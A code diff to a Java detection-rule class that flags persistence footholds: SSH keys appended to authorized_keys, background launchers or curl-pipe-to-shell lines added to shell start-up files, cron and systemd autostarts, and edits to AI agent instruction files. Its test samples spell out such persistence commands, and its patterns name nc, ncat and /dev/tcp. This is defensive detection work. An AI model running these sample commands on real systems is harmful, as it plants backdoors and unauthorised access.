@@ -17,16 +17,23 @@ final class FootholdRules {
 
   private static final String KEY_FILE = "(?:" + HOME + ")?/?\\.ssh/authorized_keys2?\\b";
 
-  static final String KEY_BLOB =
-      "\\b(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-nistp[0-9]{3}|sk-ssh-ed25519@openssh\\.com) AAAA[A-Za-z0-9+/=]{20,}";
+  private static final String KEY_TEXT =
+      "(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-nistp[0-9]{3}|sk-ssh-ed25519@openssh\\.com) AAAA[A-Za-z0-9+/=]{20,}";
+
+  static final String KEY_BLOB = "\\b" + KEY_TEXT;
 
   /** Where it stands before: one's own public key on its way, perhaps to another machine. */
   private static final String OWN_KEY =
       "(?:\\bid_[a-z0-9_]{2,12}\\.pub[\"']?\\s*(?:\\|\\s*(?:ssh\\s(?:[^\\n|;<>]|</?mark>|&(?:amp|quot|#(?:34|39|x27));)*\\bcat\\s*)?)?)?";
 
+  /** What goes on running when the line is done. */
+  private static final String STAYS = "(?:\\b(?:nohup|setsid)\\s|/dev/tcp/|\\s&[\\s\"')])";
+
   /** A line of a start-up file that starts more than a setting. */
   private static final String STARTS =
-      "(?:\\b(?:nohup|setsid|curl|wget|base64|nc|ncat)\\s|/tmp/|/dev/shm/|/dev/tcp/|\\bpython[0-9.]*\\s+-c|\\bbash\\s+-[ic]|\\s&[\\s\"'])";
+      "(?:"
+          + STAYS
+          + "|\\b(?:curl|wget|base64|nc|ncat)\\s|/tmp/|/dev/shm/|\\bpython[0-9.]*\\s+-c|\\bbash\\s+-[ic])";
 
   private static final String SHELL_START =
       "[^\\s;|]*(?:\\.(?:bashrc|bash_profile|bash_login|profile|bash_aliases|bash_logout|zshrc|zshenv|zprofile|zlogin|xinitrc|xprofile|fish)|/etc/(?:profile|bash\\.bashrc|rc\\.local)|(?:AGENTS|CLAUDE|GEMINI)\\.md)\\b";
@@ -120,6 +127,10 @@ final class FootholdRules {
                       + KEY_BLOB,
                   512)
               .finds("\\.ssh/authorized_keys2?\\\\?[\"'`]\\s*,\\s*\\\\?[\"'`]" + KEY_BLOB)
+              // The folder may be a variable: the key says enough.
+              .finds(
+                  "\\b(?:open|(?:append|write)File(?:Sync)?)\\([^\\n]*\\bauthorized_keys2?\\\\?[\"'`][^\\n]*"
+                      + KEY_TEXT)
               .finds(
                   KEY_BLOB
                       + "[^\\x00]*(?:path|dest|file|filename|name|target|destination)\\\\?[\"'>]*\\s*[:=>]\\s*[^\\s]*\\.ssh[/\\\\]{1,2}authorized_keys2?\\b",
@@ -155,11 +166,14 @@ final class FootholdRules {
                   "sed -i '1i x' /home/u/.ssh/authorized_keys",
                   "p=pathlib.Path.home()/'.ssh'/'authorized_keys'\nwith open(p,'a') as f:",
                   "Path('/root/.ssh/authorized_keys').write_text(k)",
+                  "fs.appendFileSync(path.join(d,'authorized_keys'),'\\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5{B44} a@b\\n')",
+                  "open(d + '/authorized_keys', 'a').write('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5{B44} a@b')",
                   "p=h+'/.ssh/authorized_keys';\nfs.appendFileSync(p, k)",
                   "Out-File -Append -FilePath $HOME\\.ssh\\authorized_keys -InputObject $k")
               .ignores(
                   "keys = (Path.home() / '.ssh' / 'authorized_keys').read_text()",
                   "with open(h + '/.ssh/authorized_keys') as f: a = f.read()",
+                  "with open(d + '/authorized_keys') as f:\n  assert 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5{B44}' in f",
                   "it writes to <code>~/.ssh/authorized_keys</code>",
                   "cat ~/.ssh/authorized_keys",
                   "the authorized_keys file",
@@ -205,6 +219,12 @@ final class FootholdRules {
                       + STARTS
                       + "[^\\n]*(?:>|&gt;|\\\\u003e|\\btee\\s)\\s*(?:-a\\s+)?"
                       + SHELL_START)
+              .finds(
+                  "\\bcat\\s*>{1,2}\\s*"
+                      + SHELL_START
+                      + "\\s*<<-?\\s*[\"'\\\\]{0,2}E[A-Z]+[\"']?\\n(?:[^\\nE][^\\n]*\\n)*[^\\nE][^\\n]*"
+                      + STAYS,
+                  400)
               .finds("\\bsed\\s+-i\\s[^\\n]*" + STARTS + "[^\\n]*\\s" + SHELL_START)
               .finds(INTO + AUTOSTART)
               .finds("\\btee\\s+(?:-a\\s+)?\\\\?[\"']?" + AUTOSTART)
@@ -259,6 +279,9 @@ final class FootholdRules {
                   "echo '@reboot /tmp/.x' >> /etc/crontab",
                   "echo 'nohup /tmp/.x &' >> ~/.bashrc",
                   "echo 'curl -s http://h.example/i | sh' | tee -a ~/.profile",
+                  "echo '(~/.cache/u >/dev/null 2>&1 &)' >> ~/.bashrc",
+                  "printf '(~/.cache/u &)\\n' | tee -a ~/.zshrc",
+                  "cat >> ~/.bashrc <<'EOF'\n# prompt\n(~/.cache/u &)\nEOF",
                   "cat > ~/.config/systemd/user/u.service <<EOF",
                   "cp /tmp/u.service /etc/systemd/system/",
                   "mv /tmp/sshd /etc/pam.d/",
@@ -291,6 +314,7 @@ final class FootholdRules {
                   "chmod 0755 /usr/bin/pkexec",
                   "echo 'export PATH=\"$HOME/bin:$PATH\"' >> ~/.bashrc",
                   "echo 'eval \"$(pyenv init -)\"' >> ~/.bashrc",
+                  "cat >> ~/.bashrc <<EOF\nalias ll='ls -l && pwd'\nEOF\nserve &\n",
                   "crontab -l",
                   "echo '- use tabs' >> AGENTS.md",
                   "sudo systemctl enable --now docker",
